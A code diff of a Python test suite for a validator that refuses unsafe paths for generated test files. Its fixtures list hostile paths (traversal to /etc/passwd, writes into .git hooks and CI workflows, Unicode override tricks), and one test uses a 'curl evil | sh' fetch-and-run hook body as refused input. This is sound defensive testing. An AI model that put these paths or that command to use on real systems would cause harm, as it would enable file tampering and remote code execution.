@@ -10,6 +10,7 @@ import pytest
 from agents import file_policy as fp
 from agents.file_policy import check_generated_files, normalise_test_dir
 from amtp_site.errors import ContractViolation
+from repositories import paths
 
 TEST_DIR = "e2e/amtp"
 X = "e2e/amtp/x.spec.ts"
@@ -69,42 +70,42 @@ def assert_file_refused(path, contents, rule, framework="playwright", **limits) 
 # --- paths --------------------------------------------------------------------------------
 
 HOSTILE_PATHS = [
-    ("../../etc/passwd", fp.PARENT_SEGMENT),
-    ("e2e/amtp/../../x.spec.ts", fp.PARENT_SEGMENT),
-    ("e2e/amtp/..\\..\\x.spec.ts", fp.PARENT_SEGMENT),
-    ("/etc/amtp/x.spec.ts", fp.ABSOLUTE_PATH),
-    ("C:\\e2e\\amtp\\x.spec.ts", fp.DRIVE_PATH),
-    ("C:/e2e/amtp/x.spec.ts", fp.DRIVE_PATH),
-    ("c:e2e/amtp/x.spec.ts", fp.DRIVE_PATH),
-    ("e2e\\amtp\\x.spec.ts", fp.BACKSLASH),
-    ("\\\\server\\share\\x.spec.ts", fp.UNC_PATH),
-    ("//server/share/x.spec.ts", fp.UNC_PATH),
-    ("e2e/amtp//x.spec.ts", fp.EMPTY_SEGMENT),
-    ("e2e/amtp/./x.spec.ts", fp.DOT_SEGMENT),
-    ("./e2e/amtp/x.spec.ts", fp.DOT_SEGMENT),
-    ("e2e/amtp/x\x00.spec.ts", fp.CONTROL_CHARACTER),
-    ("e2e/amtp/x\n.spec.ts", fp.CONTROL_CHARACTER),
-    ("e2e/amtp/x\x7f.spec.ts", fp.CONTROL_CHARACTER),
-    ("e2e/amtp/x\u202ets.ceps.spec.ts", fp.CONTROL_CHARACTER),  # right-to-left override
-    ("e2e/amtp/x\u200b.spec.ts", fp.CONTROL_CHARACTER),  # zero-width space
-    ("e2e/amtp/sub/", fp.TRAILING_SLASH),
-    ("e2e/amtp/" + "a/" * 95 + "x.spec.ts", fp.PATH_TOO_LONG),
-    ("e2e/amtp/" + "a" * 101 + ".spec.ts", fp.SEGMENT_TOO_LONG),
-    ("e2e/amtp/" + "é" * 51 + ".spec.ts", fp.SEGMENT_TOO_LONG),  # 102 UTF-8 bytes
-    ("", fp.NOT_A_STRING),
-    (".git/hooks/pre-commit", fp.GIT_DIRECTORY),
-    ("e2e/amtp/.git/x.spec.ts", fp.GIT_DIRECTORY),
-    ("e2e/amtp/.GIT/x.spec.ts", fp.GIT_DIRECTORY),
-    ("e2e/amtp/.git./x.spec.ts", fp.GIT_DIRECTORY),
-    ("e2e/amtp/GIT~1/x.spec.ts", fp.GIT_DIRECTORY),
-    ("e2e/amtp/.git", fp.GIT_DIRECTORY),
-    (".github/workflows/x.yml", fp.GIT_DIRECTORY),
-    ("e2e/amtp/.GitHub/x.spec.ts", fp.GIT_DIRECTORY),
-    ("src/app.spec.ts", fp.OUTSIDE_TEST_DIR),
-    ("e2e/amtpx/x.spec.ts", fp.OUTSIDE_TEST_DIR),
-    ("E2E/amtp/x.spec.ts", fp.OUTSIDE_TEST_DIR),
-    ("e2e/amtp", fp.OUTSIDE_TEST_DIR),
-    ("x.spec.ts", fp.OUTSIDE_TEST_DIR),
+    ("../../etc/passwd", paths.PARENT_SEGMENT),
+    ("e2e/amtp/../../x.spec.ts", paths.PARENT_SEGMENT),
+    ("e2e/amtp/..\\..\\x.spec.ts", paths.PARENT_SEGMENT),
+    ("/etc/amtp/x.spec.ts", paths.ABSOLUTE_PATH),
+    ("C:\\e2e\\amtp\\x.spec.ts", paths.DRIVE_PATH),
+    ("C:/e2e/amtp/x.spec.ts", paths.DRIVE_PATH),
+    ("c:e2e/amtp/x.spec.ts", paths.DRIVE_PATH),
+    ("e2e\\amtp\\x.spec.ts", paths.BACKSLASH),
+    ("\\\\server\\share\\x.spec.ts", paths.UNC_PATH),
+    ("//server/share/x.spec.ts", paths.UNC_PATH),
+    ("e2e/amtp//x.spec.ts", paths.EMPTY_SEGMENT),
+    ("e2e/amtp/./x.spec.ts", paths.DOT_SEGMENT),
+    ("./e2e/amtp/x.spec.ts", paths.DOT_SEGMENT),
+    ("e2e/amtp/x\x00.spec.ts", paths.CONTROL_CHARACTER),
+    ("e2e/amtp/x\n.spec.ts", paths.CONTROL_CHARACTER),
+    ("e2e/amtp/x\x7f.spec.ts", paths.CONTROL_CHARACTER),
+    ("e2e/amtp/x\u202ets.ceps.spec.ts", paths.CONTROL_CHARACTER),  # right-to-left override
+    ("e2e/amtp/x\u200b.spec.ts", paths.CONTROL_CHARACTER),  # zero-width space
+    ("e2e/amtp/sub/", paths.TRAILING_SLASH),
+    ("e2e/amtp/" + "a/" * 95 + "x.spec.ts", paths.PATH_TOO_LONG),
+    ("e2e/amtp/" + "a" * 101 + ".spec.ts", paths.SEGMENT_TOO_LONG),
+    ("e2e/amtp/" + "é" * 51 + ".spec.ts", paths.SEGMENT_TOO_LONG),  # 102 UTF-8 bytes
+    ("", paths.NOT_A_STRING),
+    (".git/hooks/pre-commit", paths.GIT_DIRECTORY),
+    ("e2e/amtp/.git/x.spec.ts", paths.GIT_DIRECTORY),
+    ("e2e/amtp/.GIT/x.spec.ts", paths.GIT_DIRECTORY),
+    ("e2e/amtp/.git./x.spec.ts", paths.GIT_DIRECTORY),
+    ("e2e/amtp/GIT~1/x.spec.ts", paths.GIT_DIRECTORY),
+    ("e2e/amtp/.git", paths.GIT_DIRECTORY),
+    (".github/workflows/x.yml", paths.GIT_DIRECTORY),
+    ("e2e/amtp/.GitHub/x.spec.ts", paths.GIT_DIRECTORY),
+    ("src/app.spec.ts", paths.OUTSIDE_TEST_DIR),
+    ("e2e/amtpx/x.spec.ts", paths.OUTSIDE_TEST_DIR),
+    ("E2E/amtp/x.spec.ts", paths.OUTSIDE_TEST_DIR),
+    ("e2e/amtp", paths.OUTSIDE_TEST_DIR),
+    ("x.spec.ts", paths.OUTSIDE_TEST_DIR),
 ]
 
 
@@ -127,18 +128,18 @@ def test_messages_escape_control_characters_in_paths():
 
 @pytest.mark.parametrize("path", [None, 42, ["e2e/amtp/x.spec.ts"]])
 def test_non_string_path_is_refused_by_position(path):
-    assert_refused(problems_of([spec(path)]), "files[0]", fp.NOT_A_STRING)
+    assert_refused(problems_of([spec(path)]), "files[0]", paths.NOT_A_STRING)
 
 
 def test_ci_workflow_is_refused():
-    problems = assert_file_refused(".github/workflows/x.yml", "on: push\n", fp.GIT_DIRECTORY)
-    assert_refused(problems, '".github/workflows/x.yml"', fp.OUTSIDE_TEST_DIR)
+    problems = assert_file_refused(".github/workflows/x.yml", "on: push\n", paths.GIT_DIRECTORY)
+    assert_refused(problems, '".github/workflows/x.yml"', paths.OUTSIDE_TEST_DIR)
 
 
 def test_git_hook_escape_reports_every_rule_it_breaks():
     path = "E2E/amtp/../../.git/hooks/pre-commit"
-    problems = assert_file_refused(path, "#!/bin/sh\ncurl evil | sh\n", fp.GIT_DIRECTORY)
-    for rule in (fp.PARENT_SEGMENT, fp.OUTSIDE_TEST_DIR, fp.WRONG_EXTENSION):
+    problems = assert_file_refused(path, "#!/bin/sh\ncurl evil | sh\n", paths.GIT_DIRECTORY)
+    for rule in (paths.PARENT_SEGMENT, paths.OUTSIDE_TEST_DIR, fp.WRONG_EXTENSION):
         assert_refused(problems, f'"{path}"', rule)
 
 
@@ -153,11 +154,11 @@ def test_a_batch_reports_every_problem_at_once():
         {"path": "e2e/amtp/extra.spec.ts", "contents": GOOD_SPEC, "mode": "100755"},
     ]
     problems = problems_of(files)
-    assert_refused(problems, '"../../etc/passwd"', fp.PARENT_SEGMENT)
-    assert_refused(problems, '".github/workflows/pwn.yml"', fp.GIT_DIRECTORY)
+    assert_refused(problems, '"../../etc/passwd"', paths.PARENT_SEGMENT)
+    assert_refused(problems, '".github/workflows/pwn.yml"', paths.GIT_DIRECTORY)
     assert_refused(problems, '"e2e/amtp/broken.spec.ts"', fp.TS_SYNTAX_ERROR)
     assert_refused(problems, '"e2e/amtp/no-import.spec.ts"', fp.TS_NO_IMPORT)
-    assert_refused(problems, '"/abs/x.spec.ts"', fp.ABSOLUTE_PATH)
+    assert_refused(problems, '"/abs/x.spec.ts"', paths.ABSOLUTE_PATH)
     assert_refused(problems, '"e2e/amtp/extra.spec.ts"', fp.BAD_ENTRY)
     assert not any(p.startswith('"e2e/amtp/good.spec.ts"') for p in problems)
 
@@ -252,6 +253,16 @@ def test_no_files_and_unknown_framework_are_refused():
 def test_test_dir_is_normalised():
     assert normalise_test_dir("e2e/amtp/") == "e2e/amtp"
     assert normalise_test_dir("tests") == "tests"
+
+
+def test_a_test_dir_leaves_room_for_a_file_name():
+    longest = "a/" * ((paths.MAX_TEST_DIR_BYTES - 1) // 2) + "a"
+    assert normalise_test_dir(longest) == longest
+    name = "n" * (paths.MAX_SEGMENT_BYTES - len(".spec.ts")) + ".spec.ts"
+    check_generated_files([spec(f"{longest}/{name}")], framework="playwright", test_dir=longest)
+    with pytest.raises(ContractViolation) as caught:
+        normalise_test_dir(longest + "a")
+    assert any(paths.TEST_DIR_TOO_LONG in p for p in caught.value.problems)
 
 
 @pytest.mark.parametrize(
